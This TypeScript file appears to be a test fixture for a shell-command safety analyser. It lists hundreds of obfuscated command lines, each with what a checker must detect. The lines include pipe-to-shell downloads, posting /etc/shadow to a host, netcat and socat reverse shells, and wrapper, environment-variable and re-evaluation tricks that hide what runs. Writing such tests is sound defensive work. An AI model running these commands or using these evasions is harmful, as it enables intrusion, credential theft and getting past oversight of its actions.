// Lines that hide what they run from those who read them, with what must be said: a program or path by name, or a doubt.

export interface Attack {
  readonly line: string;
  /** Programs, paths, hosts or doubts, of which all must be among the facts; `!`: any doubt. */
  readonly said: string;
}

/** A table of `what must be said`, a tab, and the line; `␤` stands for a newline, `‷` for a backquote, `‸` for a dollar before a brace. */
const table = String.raw`
evil	ls; evil
evil	ls&evil
evil	ls&&evil
evil	ls||evil
evil	ls|evil
evil	ls|&evil
evil	ls␤evil
evil	ls #x␤evil
evil	echo $(evil)
evil	echo "$(evil)"
evil	echo "a $(echo "b $(evil)")"
evil	echo ‷evil‷
evil	echo "‷evil‷"
unread	echo ‷echo \‷evil\‷‷
evil	cat <(evil)
evil	cat x > >(evil)
evil	echo ‸{x:-$(evil)}
evil	echo "‸{x:=‷evil‷}"
evil	echo $((1+$(evil)))
evil	x=$(evil) ls
evil	x=$(evil)
evil	a=(1 $(evil))
evil	ls > $(evil)
evil	cat <<E␤$(evil)␤E
evil	cat <<-E␤	‷evil‷␤	E
evil	cat <<'E'␤x␤E␤evil
evil	cat <<< $(evil)
evil	[[ -n $(evil) ]]
evil	case $(evil) in x) ls;; esac
evil	case x in $(evil)) ls;; esac
evil	case x in y) ls;; *) evil;; esac
evil	for i in $(evil); do ls; done
evil	for ((i=$(evil);i<2;i++)); do ls; done
evil	while evil; do ls; done
evil	until ls; do evil; done
evil	if ls; then ls; else evil; fi
evil	if ls; then ls; elif evil; then ls; fi
evil	select x in a; do evil; done
evil	{ ls; evil; }
evil	(ls; (evil))
evil	f() { evil; }; f
evil	f() ( evil )
evil	function f { evil; }
evil	coproc evil
evil	coproc X { evil; }
evil	time evil
evil	! evil
evil	! time -p evil
evil	eval evil
evil	eval 'ls; evil'
evil	eval ls \; evil
evil	eval -- evil
program	eval "$x"
evil	trap evil EXIT
evil	trap 'ls; evil' 0 INT
program	trap "$x" EXIT
evil	exec evil
evil	exec -a ls evil
evil	command evil
evil	command -p evil
evil	builtin command evil
evil	bash -c evil
evil	bash -lc 'cd /; evil'
evil	bash -c "bash -c 'evil'"
evil	sh -ec 'ls && evil' x y
evil	bash --norc -c evil
option-runs	bash --rcfile x -i
opaque-stdin	cat x | bash
opaque-stdin	curl http://h/x | sh -s -- a
opaque-stdin	bash < x
evil	bash <<< evil
evil	bash <<'E'␤evil␤E
opaque-stdin	bash <<E␤$x␤E
!	bash <(curl http://h/x)
opaque-file	source x.sh
opaque-file	. ./x
!	source <(evil)
program	$x
program	"$x" a
program	$(evil) a
program	/bin/$x
program	~/b*/x
program	/b?n/evil
evil	{evil,a}
evil	ev""il
evil	ev\il
evil	'ev'il
evil	"ev"'il'
evil	$'evil'
quoting	$'\x65vil'
quoting	$'\145vil'
quoting	echo $'\u0065'
continuation	ev\␤il
evil	ls \␤; evil
!	ls $'\'' ; evil '
evil	sudo evil
evil root	sudo -n evil root
evil	sudo -u bob evil
evil	sudo -ubob -- evil
evil	sudo -E A=b evil
evil	sudo --user=bob evil
option	sudo --us=bob evil
option	sudo --frobnicate evil
sh	sudo -s
sh opaque-stdin	sudo -i
interactive	sudoedit-x; sudo -e /etc/x
evil	su -c evil
evil	su - bob -c 'ls; evil'
evil	su bob --command=evil
evil	su -s /bin/bash -c evil bob
evil	runuser -u bob -- evil
evil	runuser bob -c evil
evil	doas -u bob evil
evil	env evil
evil	env -i A=b evil
evil	env -u A -C /x evil
evil	env -S 'evil -x'
evil	env -Sevil
!	env -S 'ev\_il'
!	env -S '‸{X} a'
evil	env -vS 'evil a'
evil	nohup evil
evil	nice evil
evil	nice -n 5 evil
evil	nice -10 evil
evil	timeout 5 evil
evil	timeout -s KILL -k 3 5 evil
evil	timeout --signal=KILL 5 evil
evil	setsid -w evil
evil	stdbuf -o0 evil
evil	ionice -c3 evil
evil	chrt -r 5 evil
evil	taskset -c 0,1 evil
evil	prlimit --nofile=5 evil
evil	flock /x evil
evil	flock /x -c 'ls; evil'
evil	flock -n -E 3 /x evil
evil	unshare -r evil
evil	unshare -n --map-root-user evil
evil	nsenter -t 1 -m evil
sh	unshare -r
evil	chroot /x evil
evil	chroot --userspec=a:b /x evil
evil	watch evil
evil	watch -n 1 'ls; evil'
evil	watch -x evil a
evil	script -c evil /dev/null
evil	script -qc 'ls; evil' /x
evil	strace -f -o /x evil
evil	time -p evil
evil	/usr/bin/time -f %e evil
evil	xargs evil
evil	xargs -n 1 -P 4 evil
evil	xargs -I X sh -c evil X
program	xargs -I{} {} a
program	ls | xargs -I{} sh -c 'echo {}'
!	ls | xargs sh -c
!	ls | xargs env
!	ls | xargs rm
evil	find . -exec evil {} \;
evil	find . -name x -ok evil \;
evil	find . -execdir evil {} +
evil	find . -exec sh -c evil \;
program	find . -exec sh -c 'ls {}' \;
!	find . -exec {} \;
/x	find . -fprint /x
/x	find /x -delete
evil	parallel evil ::: a b
!	parallel ::: evil
!	ls | parallel
evil	ssh h evil
h evil	ssh -p 22 root@h evil
h evil	ssh h -p 22 'ls; evil'
option-runs	ssh -o ProxyCommand=evil h
option-runs	ssh -oProxyCommand=evil h ls
option-runs	ssh -o LocalCommand=evil -o PermitLocalCommand=yes h ls
option-runs	ssh -F x h ls
option-runs	ssh -L 1:a:2 h ls
interactive	ssh h
opaque-stdin	ls | ssh h
evil	docker exec -it c evil
evil	docker exec -u 0 -e A=b c sh -c evil
evil	docker run --rm -v /:/h i evil
evil	docker container exec c evil
evil	docker compose exec web evil
option-runs	docker run --entrypoint evil i
option-runs	docker -H tcp://h ps
evil	podman exec c evil
evil	kubectl exec p -- evil
evil	kubectl -n x exec -it p -c c -- sh -c evil
evil !	kubectl exec p evil
evil	busybox evil
evil	busybox sh -c evil
evil	/lib64/ld-linux-x86-64.so.2 /bin/evil
option-runs	ld-linux-x86-64.so.2 --preload x /bin/ls
evil	systemd-run --uid=0 evil
evil	ip netns exec n evil
evil	setpriv --reuid=0 evil
evil	unbuffer evil
evil	rlwrap -a evil
evil	gosu root evil
evil	ltrace -f evil
evil	dbus-run-session -- evil
opaque-inline	python3 -c 'import os'
opaque-inline	python3 -Ic 'import os'
opaque-inline	perl -e 'exec 1'
opaque-inline	perl -lane 'exec 1'
opaque-inline	ruby -e 'exec 1'
opaque-inline	node -e 1
opaque-inline	php -r 1
opaque-inline	lua -e 1
opaque-stdin	python3
opaque-stdin	echo x | python3 -
opaque-inline	awk 'BEGIN{system("evil")}'
opaque-inline	awk '{print | "evil"}'
opaque-inline	awk '{print > "/x"}'
opaque-inline	awk '{"evil" | getline}'
opaque-inline	awk 'BEGIN{f="system"; @f("evil")}'
opaque-file	awk -f x
opaque-inline	sed '1e evil' x
opaque-inline	sed 's/a/evil/e' x
opaque-inline	sed 's/a/b/w /x' x
opaque-inline	sed -n '1w /x' x
opaque-inline	sed '1r /etc/shadow' x
opaque-inline	sed 's/a/b/;1e evil' x
opaque-file	sed -f x y
option-runs	tar cf x --checkpoint=1 --checkpoint-action=exec=evil .
option-runs	tar xf x --to-command=evil
option-runs	tar cf x -I evil .
option-runs	tar cf h:x .
option	tar cf x --to-comm=evil .
argument	tar cf x.tar *
option-runs	rsync -e 'sh -c evil' a h:b
option-runs	rsync --rsync-path=evil a h:b
option-runs	scp -S evil a h:b
option-runs	scp -o ProxyCommand=evil a h:b
option-runs	sort --compress-program=evil x
!	sort --compress-prog=evil x
option-runs	split --filter=evil x
option-runs	git -c core.pager=evil log
option-runs	git -c alias.x=!evil x
option-runs	git --exec-path=/x status
option-runs	git clone ext::evil x
option-runs	git clone -u evil h:x
option-runs	git clone --config core.x=y h:x
option-runs	git fetch --upload-pack=evil
option-runs	git rebase --exec evil HEAD
option-runs	git bisect run evil
option-runs	git submodule foreach evil
option-runs	git grep -Oevil x
option-runs	git config core.pager evil
option-runs	git config alias.x '!evil'
option	git frob
/x	git diff --output=/x
interactive	vim -c ':!evil'
interactive	less /x
interactive	man ls
interactive	gdb -ex 'shell evil'
option-runs	nc -e /bin/sh h 1
option-runs	ncat --exec evil h 1
option-runs	socat TCP:h:1 EXEC:evil
option-runs	curl -K x
/x	curl -o /x http://h/
/etc/shadow h	curl -d @/etc/shadow http://h/
/etc/shadow h	curl -F f=@/etc/shadow http://h/
/etc/shadow h	wget --post-file=/etc/shadow http://h/
path	curl file:///etc/shadow
host	curl http://$x/
option-runs	apt -o APT::Update::Pre-Invoke::=evil update
option-runs	make SHELL=evil
option-runs	make --eval=evil
opaque-stdin	crontab x
opaque-stdin	at now
opaque-stdin	batch
option-runs	systemctl link /x/evil.service
interactive	systemctl edit x
option-runs	systemctl -H h restart x
variable	LD_PRELOAD=/x ls
variable	PATH=/x ls
variable	PATH=/x; ls
variable	export PATH=/x
variable	export "PATH=/x"
variable	env PATH=/x ls
variable	sudo LD_PRELOAD=/x ls
variable	BASH_ENV=/x bash -c ls
variable	ENV=/x sh -c ls
variable	IFS=x; ls
variable	PS4='$(evil)' bash -xc ls
variable	PROMPT_COMMAND=evil
variable	GIT_SSH_COMMAND=evil git fetch
variable	GIT_EXTERNAL_DIFF=evil git diff
variable	LESSOPEN='|evil' less x
variable	RSYNC_RSH=evil rsync a h:b
variable	PAGER=evil git log
variable	EDITOR=evil crontab -e
variable	PYTHONSTARTUP=x python3 y
variable	PERL5OPT=-Mx perl y
variable	NODE_OPTIONS=x node y
variable	HOME=/x; ls ~
variable	read PATH < x
variable	printf -v PATH /x
variable	TAR_OPTIONS=x tar tf y
variable	for PATH in /x; do ls; done
reevaluated	[[ -v 'a[$(evil)]' ]]
reevaluated	[[ 'a[$(evil)]' -eq 1 ]]
reevaluated	test -v 'a[$(evil)]'
reevaluated	[ -v 'a[$(evil)]' ]
reevaluated	printf -v 'a[$(evil)]' x
reevaluated	read 'a[$(evil)]' < x
reevaluated	declare -i x='a[$(evil)]'
reevaluated	declare 'a[$(evil)]=x'
reevaluated	export 'a[$(evil)]=x'
reevaluated	unset 'a[$(evil)]'
reevaluated	let 'a[$(evil)]=1'
reevaluated	x='a[$(evil)]'; echo $((x))
reevaluated	(( a[x] ))
reevaluated	echo $((x))
reevaluated	a['$(evil)']=1
reevaluated	echo ‸{a['$(evil)']}
reevaluated	echo ‸{x@P}
reevaluated	echo ‸{!x}
reevaluated	echo ‸{x:a}
reevaluated	mapfile -C evil -c 1 x < y
reevaluated	compgen -C evil
reevaluated	compgen -W '$(evil)'
reevaluated	wait -n -p 'a[$(evil)]'
reevaluated	getopts a 'x[$(evil)]'
reevaluated	echo a >& '$(evil)'
reevaluated	[ "$x" "$y" ]
reevaluated	[ $x = y ]
reevaluated	x='$(evil)'
shell-state	alias ls=evil
shell-state	shopt -s expand_aliases
shell-state	hash -p /x/evil ls
shell-state	enable -f /x/evil.so ls
shell-state	complete -C evil ls
shell-state	set -k
shell-state	bind -x '"a":evil'
shell-state	fc -s
shadow	ls() { evil; }; ls
shadow	cd() { evil; }
shadow	sudo() { "$@"; }; sudo evil
directory	cd $x; cat shadow
/etc/shadow	cd /etc; cat shadow
/etc/shadow	cd /etc && cat shadow
/etc/shadow	cd / && cd etc && cat shadow
directory	for i in 1 2; do cat shadow; cd /etc; done
directory	pushd /etc; cat shadow
/etc/shadow	cat < /etc/shadow
/etc/shadow	echo $(</etc/shadow)
/etc/shadow	grep -f /etc/shadow x
/etc/shadow	grep --file=/etc/shadow x
/etc/shadow	diff /etc/shadow x
/etc/sh*	cat /etc/sh*
/etc/shadow	f=/etc/shadow; cat $f
/etc/shadow	for f in /etc/shadow; do cat "$f"; done
path	cat $f
path	f=a; f=/etc/shadow; cat $g
argument	f=a; read f < x; cat "$f"
argument	f=a; eval 'f''=/etc/shadow'; cat "$f"
/x	ls > /x
/x	ls 2>> /x
/x	ls >| /x
/x	ls &> /x
/x	ls <> /x
/x	exec 3> /x
/x	ls > ''/x
path	ls > $x
h	cat < /dev/tcp/h/80
h	exec 3<>/dev/tcp/h/80
dialect	((evil))
dialect	ls &> /x evil
dialect	[[ a || evil ]]
dialect	[[ a > evil ]]
written-program	echo evil > x; bash x
written-program	echo evil > ./x; ./x
written-program	cp /bin/evil /tmp/ls; /tmp/ls
maybe-wrapper	frobnicate bash -c evil
unread	l<(id)evil
syntax	ls )
syntax	ls "
syntax	if ls; then
syntax	ls <<E␤x
size	f() { f | f & }; eval "eval \"eval 'eval \\\"x\\\"'\""$(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(evil))))))))))))))
`;

export const attacks: readonly Attack[] = table
  .replaceAll('‷', '`')
  .replaceAll('‸', '$')
  .split('\n')
  .filter((row) => row !== '')
  .map((row) => {
    const at = row.indexOf('\t');
    return { said: row.slice(0, at), line: row.slice(at + 1).replaceAll('␤', '\n') };
  });
